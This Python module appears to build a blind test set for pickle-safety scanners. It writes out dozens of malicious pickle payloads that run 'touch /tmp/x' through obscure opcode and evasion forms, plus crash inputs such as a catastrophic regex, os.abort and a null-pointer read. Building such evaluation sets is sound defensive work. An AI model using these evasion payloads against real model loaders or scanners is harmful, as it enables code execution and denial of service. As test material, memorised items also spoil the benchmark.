"""The third blind set: forms of opcodes."""

# ruff: noqa: E501  (payloads stand on one line)

from __future__ import annotations

import io
from collections.abc import Iterator

from corpora.unseen3_base import (
    CODE,
    COMMANDS,
    Build,
    Call,
    G,
    Raw,
    Sample,
    call,
    dumps,
    new,
    opcodes,
)

LOAD = "import pickle; pickle.load(open(f, 'rb'))"
HERE = "import sys; sys.path.insert(0, '.'); "
SH = COMMANDS[0]
EVIL = call("os:system", SH)
RUN = b"cos\nsystem\n"
ARG = b"X\x0c\x00\x00\x00touch /tmp/x"


def _opcodes() -> Iterator[tuple[str, bytes]]:
    yield "inst", b"(S'touch /tmp/x'\nios\nsystem\n."
    yield "inst-pops", dumps([Call(G("os:system"), (SH,), "inst"), 1], 2)
    yield "obj", b"(" + RUN + ARG + b"o."
    yield "obj-proto4", dumps({"model": Call(G("subprocess:check_output"), (["touch", "/tmp/x"],), "obj")}, 4)
    yield (
        "newobj-ex",
        dumps(
            Call(
                G("sympy.functions.elementary.complexes:Abs"),
                (CODE[2].join(["", ""]) and "__import__('os').system('touch /tmp/x')", {"evaluate": True}),
                "newobj_ex",
            ),
            4,
        ),
    )
    yield (
        "extension",
        b"\x80\x02ccopyreg\nadd_extension\n(X\x02\x00\x00\x00osX\x06\x00\x00\x00systemK\x07tR0\x82\x07"
        + ARG
        + b"\x85R.",
    )
    yield (
        "extension-four",
        b"\x80\x02ccopyreg\nadd_extension\n(X\x02\x00\x00\x00osX\x06\x00\x00\x00systemJ\x00\x00\x01\x00tR0\x84\x00\x00\x01\x00"
        + ARG
        + b"\x85R.",
    )
    yield "python2-commands", b"\x80\x02ccommands\ngetoutput\n" + ARG + b"\x85R."
    yield "python2-builtin", b'c__builtin__\neval\n(S\'__import__("os").system("touch /tmp/x")\'\ntR.'
    yield (
        "python2-reduce",
        b"\x80\x02c__builtin__\nmap\ncos\nsystem\n](X\x0c\x00\x00\x00touch /tmp/xe\x86R0c__builtin__\nlist\nc__builtin__\nmap\ncos\nsystem\n](X\x0c\x00\x00\x00touch /tmp/xe\x86R\x85R.",
    )
    yield "stack-global-memo", b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93\x8c\x0ctouch /tmp/x\x85R."
    yield (
        "stack-global-computed",
        dumps(
            Raw(
                opcodes(call(call("operator:methodcaller", "join", ["o", "s"]), ""), 4)
                + opcodes(call("builtins:str", "system"), 4)
                + b"\x93"
                + ARG
                + b"\x85R"
            ),
            4,
        ),
    )
    yield "memo-overwritten", b"\x80\x02cmath\nfabs\nq\x00cos\nsystem\nq\x000h\x00" + ARG + b"\x85R."
    yield "memo-huge-index", b"\x80\x02cos\nsystem\nr\xff\xff\x0f\x000j\xff\xff\x0f\x00" + ARG + b"\x85R."
    yield "memo-text-index", b"cos\nsystem\np1000000\n0g1000000\n(S'touch /tmp/x'\ntR."
    yield "popped", dumps(Raw(opcodes(EVIL, 2) + b"0" + opcodes({"weights": [1.0, 2.0]}, 2)), 2)
    yield "pop-mark", dumps(Raw(b"(" + opcodes(EVIL, 2) + b"1" + opcodes([0.5], 2)), 2)
    yield "dup", b"\x80\x02cos\nsystem\n2" + ARG + b"\x85R0."
    yield "no-stop", b"\x80\x04" + opcodes(EVIL, 4)
    yield "garbage-after", b"\x80\x02" + opcodes(EVIL, 2) + b"\xee\xff\x00"
    yield "bad-int-after", opcodes(EVIL, 0) + b"Inot a number\n."
    yield "bad-utf8-after", b"\x80\x02" + opcodes(EVIL, 2) + b"X\x02\x00\x00\x00\xff\xfe."
    yield "frame-lies", b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00NNN00" + opcodes(EVIL, 4) + b"."
    yield "proto-in-the-middle", b"\x80\x05\x80\x00\x80\x02" + opcodes(EVIL, 2) + b"\x80\x04."
    yield "old-strings", b"\x80\x01cos\nsystem\n(U\x0ctouch /tmp/xtR."
    yield "escaped-string", b"cos\nsystem\n(S'\\x74ouch /tmp\\057x'\ntR."
    yield "escaped-unicode", b"cos\nsystem\n(V\\u0074ouch /tmp/x\ntR."
    yield "bytes-name", b"\x80\x04\x8c\x05posix\x8c\x06system\x93C\x0ctouch /tmp/x\x85R."
    yield (
        "bytearray",
        b"\x80\x05\x8c\x05posix\x8c\x06system\x93cbuiltins\nbytes\n\x96\x0c\x00\x00\x00\x00\x00\x00\x00touch /tmp/x\x85R\x85R.",
    )
    yield "in-a-key", dumps({call("os:system", SH): "layer1"}, 4)
    yield "in-a-set", b"\x80\x04\x8f(" + opcodes(EVIL, 4) + b"\x90."
    yield "in-a-frozenset", b"\x80\x04(" + opcodes(EVIL, 4) + b"\x91."
    yield "as-an-argument", dumps(call("collections:OrderedDict", [["conv1.weight", EVIL]]), 2)
    yield "as-a-state", dumps(Build(new("argparse:Namespace"), {"lr": 0.1, "seed": EVIL}), 4)
    yield "persistent-none", b"\x80\x02" + opcodes(EVIL, 2) + b"Q."
    yield "after-100k-of-data", dumps(["a" * 60000, [1.5] * 9000, EVIL], 4)
    yield "deep", dumps(Raw(b"(" * 3000 + opcodes(EVIL, 2) + b"t" * 3000), 2)
    yield "long-arguments", dumps(call("os:system", "true;" * 20000 + SH), 4)
    yield "long-line", dumps(call("os:system", "#" * 70000 + "\n" + SH), 0)
    yield (
        "setstate-on-class",
        dumps(
            Raw(
                opcodes(Build(G("argparse:Namespace"), (None, {"__setstate__": G("os:system")})), 4)
                + b"0"
                + opcodes(Build(new("argparse:Namespace"), SH), 4)
            ),
            4,
        ),
    )
    yield (
        "setstate-on-dataset",
        dumps(
            [
                Build(G("torch.utils.data.dataset:TensorDataset"), (None, {"__setstate__": G("os:system")})),
                Build(new("torch.utils.data.dataset:TensorDataset"), SH),
            ],
            4,
        ),
    )
    yield (
        "append-method",
        dumps(Raw(opcodes(Build(new("argparse:Namespace"), {"append": G("os:system")}), 4) + ARG + b"a"), 4),
    )
    yield (
        "extend-method",
        dumps(
            Raw(
                opcodes(Build(new("optparse:Values"), {"extend": G("subprocess:call")}), 4)
                + b"("
                + b"X\x05\x00\x00\x00touchX\x06\x00\x00\x00/tmp/x"
                + b"e"
            ),
            4,
        ),
    )
    yield (
        "append-call",
        dumps(
            Raw(
                opcodes(call(G("weakref:WeakMethod") if False else G("types:SimpleNamespace")), 4)
                + b"(dX\x06\x00\x00\x00appendcos\nsystem\nsb"
                + ARG
                + b"a"
            ),
            4,
        ),
    )
    yield (
        "slot-hash",
        dumps({Build(new("argparse:Namespace"), {}): 1, "x": EVIL}, 4) if False else dumps([EVIL, EVIL], 0),
    )


def samples() -> Iterator[Sample]:
    ends = ("pkl", "pickle", "bin", "model", "p", "dat")
    for index, (name, data) in enumerate(_opcodes()):
        yield Sample(f"form/{name}", {f"m{index}.{ends[index % 6]}": data}, LOAD, "code")
    text = b"\x80\x04]\x94" + b"".join(b"](h%ch%ch%ch%ch%ch%ch%ch%ce\x94" % ((i,) * 8) for i in range(24)) + b"."
    yield Sample("form/repr-never-ends", {"m.pkl": text}, "import pickle; repr(pickle.load(open(f, 'rb')))", "crash")
    power = call("operator:pow", call("operator:pow", 10, 9), call("operator:pow", 10, 9))
    yield Sample("form/power", {"m.pkl": dumps(power, 4)}, LOAD, "crash")
    yield Sample("form/bytearray-size", {"m.pkl": dumps(call("numpy:ones", (10**9,)), 4)}, LOAD, "crash")
    yield Sample("form/regex", {"m.pkl": dumps(call("re:match", "(a+)+$", "a" * 40 + "b"), 4)}, LOAD, "crash")
    yield Sample("form/abort", {"m.pkl": dumps(call("os:abort"), 4)}, LOAD, "crash")
    yield Sample("form/null-pointer", {"m.pkl": dumps(call("ctypes:string_at", 0), 4)}, LOAD, "crash")
    yield Sample(
        "form/code-replace",
        {
            "m.pkl": dumps(
                call(
                    call(
                        "types:FunctionType",
                        call(
                            "types:CodeType",
                            0,
                            0,
                            0,
                            0,
                            1,
                            0,
                            b"\x6e\xff" * 40,
                            (),
                            (),
                            (),
                            "a",
                            "f",
                            "f",
                            1,
                            b"",
                            b"",
                            (),
                            (),
                        ),
                        {},
                    )
                ),
                4,
            )
        },
        LOAD,
        "crash",
    )
    tree = io.BytesIO()
    tree.write(
        dumps(
            Build(
                call("sklearn.tree._tree:Tree", 1, call("numpy:array", [2]), 1),
                {
                    "max_depth": 1,
                    "node_count": 1,
                    "nodes": call("numpy:zeros", 1),
                    "values": call("numpy:zeros", (1, 1, 2)),
                },
            ),
            4,
        )
    )
    yield Sample("form/tree-state", {"t.pkl": tree.getvalue()}, LOAD, "crash")
